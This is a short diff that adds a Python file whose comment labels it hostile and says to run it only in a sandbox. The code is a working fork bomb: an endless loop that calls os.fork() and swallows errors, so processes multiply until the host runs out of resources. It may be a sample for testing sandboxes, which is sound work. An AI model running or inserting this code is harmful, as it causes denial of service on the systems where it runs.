@@ -1,0 +1,8 @@
+# hostile: do not run outside of a sandbox
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
